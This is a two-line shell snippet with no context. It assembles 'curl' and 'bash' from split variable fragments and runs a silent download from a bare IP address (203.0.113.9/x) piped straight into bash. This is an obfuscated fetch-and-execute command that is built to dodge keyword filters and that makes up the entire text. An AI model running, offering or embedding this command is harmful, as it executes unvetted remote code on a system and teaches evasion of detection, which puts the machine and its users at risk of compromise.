a=cu;b=rl;c=ba
$a$b -s http://203.0.113.9/x | ${c}sh
